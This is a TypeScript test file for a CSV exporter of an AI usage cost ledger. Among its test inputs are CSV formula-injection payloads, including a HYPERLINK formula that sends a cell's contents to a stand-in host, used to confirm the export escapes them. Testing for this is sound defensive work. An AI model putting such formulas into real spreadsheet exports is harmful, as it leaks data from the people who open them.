import Papa from 'papaparse';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { ledgerCsv } from '../../src/main/storage/ledger-csv.ts';
import { putAttempt, putConversation, putRequest, tempLedger } from './support/ledger-rows.ts';

const MARCH = { fromDay: '2026-03-01', toDay: '2026-03-31' };

let ledger: ReturnType<typeof tempLedger>;
beforeEach(() => {
  ledger = tempLedger();
  putRequest(ledger.db, 'r');
});
afterEach(() => ledger.end());

const read = (filter = MARCH) =>
  Papa.parse<Record<string, string>>([...ledgerCsv(ledger.db, filter)].join(''), {
    header: true,
    skipEmptyLines: true,
  });

it('has a heading and a line for each attempt that has ended, with exact costs', () => {
  ledger.db.exec(
    `INSERT INTO prices VALUES (7, 'table', '2026-03-01', '0.00000125', '0.00001', '0.1', '0.2', '0.3')`,
  );
  putConversation(ledger.db, 'c1', 'Weather');
  putAttempt(ledger.db, 'a', 'r', {
    conversation_id: 'c1',
    cost_pico: 9_007_199_254_740_993n,
    on_primary_pico: 1,
    price_id: 7,
  });
  putAttempt(ledger.db, 'unpriced', 'r', { cost_pico: null });
  putAttempt(ledger.db, 'open', 'r', { outcome: 'open' });
  const { data, errors } = read();
  expect(errors).toEqual([]);
  expect(data).toHaveLength(2);
  expect(data[0]).toMatchObject({
    attempt_id: 'a',
    conversation_title: 'Weather',
    day: '2026-03-10',
    started_at_utc: '2026-03-10T12:00:00.000Z',
    cache_write_1h_tokens: '3',
    price_source: 'table',
    input_usd_per_token: '0.00000125',
    cache_write_1h_usd_per_token: '0.3',
    cost_usd: '9007.199254740993',
    cost_on_primary_usd: '0.000000000001',
  });
  expect(data[1]).toMatchObject({ attempt_id: 'unpriced', cost_usd: '', price_source: '' });
});

it('is only a heading over nothing', () => {
  const csv = [...ledgerCsv(ledger.db, MARCH)].join('');
  expect(csv).toMatch(/^attempt_id,request_id,[a-z0-9_,]+\r\n$/);
});

it.each([
  '=HYPERLINK("http://example.test/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1+\n1',
  '=1\n,x',
  ' =1',
  '＝1+1',
])('makes no formula of %j', (reason) => {
  putAttempt(ledger.db, 'a', 'r', { reason, model: reason, provider_name: reason });
  const { data } = read();
  expect(data).toHaveLength(1);
  expect(data[0]).toMatchObject({ reason: `'${reason}`, model: `'${reason}`, provider: `'${reason}` });
});

it.each([
  'a "quoted" word',
  'a, b',
  'two\r\nlines',
  'two\nlines',
  '""',
  ',',
  '天气',
  "it's",
  'ends in space ',
])('gives %j back as it was', (reason) => {
  putAttempt(ledger.db, 'a', 'r', { reason });
  putAttempt(ledger.db, 'b', 'r', { reason: 'next' });
  expect(read().data.map((row) => row['reason'])).toEqual([reason, 'next']);
});

it('holds every attempt once over many slices, in order, while others are added', () => {
  const add = (from: number, upTo: number) => {
    for (let index = from; index < upTo; index += 1)
      putAttempt(ledger.db, `a${index}`, 'r', {
        started_at_ms: Date.parse('2026-03-30T00:00:00Z') - index * 60_000,
      });
  };
  ledger.db.exec('BEGIN');
  add(0, 2_500);
  ledger.db.exec('COMMIT');
  const slices: string[] = [];
  for (const slice of ledgerCsv(ledger.db, MARCH)) {
    slices.push(slice);
    putAttempt(ledger.db, `later ${slices.length}`, 'r', {
      started_at_ms: Date.parse('2026-04-02T00:00:00Z'),
    });
  }
  expect(slices).toHaveLength(4);
  const { data } = Papa.parse<Record<string, string>>(slices.join(''), {
    header: true,
    skipEmptyLines: true,
  });
  expect(new Set(data.map((row) => row['attempt_id'])).size).toBe(2_500);
  expect(data).toHaveLength(2_500);
  const days = data.map((row) => row['day'] ?? '');
  expect(days).toEqual(days.toSorted());
});

it('keeps to its filter', () => {
  putAttempt(ledger.db, 'a', 'r', { provider_id: 'beta' });
  putAttempt(ledger.db, 'b', 'r', { started_at_ms: Date.parse('2026-04-02T00:00:00Z') });
  putAttempt(ledger.db, 'c', 'r');
  expect(read().data).toHaveLength(2);
  expect([...ledgerCsv(ledger.db, { ...MARCH, providerId: 'beta' })].join('')).toContain('\r\na,r,');
  expect([...ledgerCsv(ledger.db, { ...MARCH, providerId: 'gamma' })]).toHaveLength(1);
});
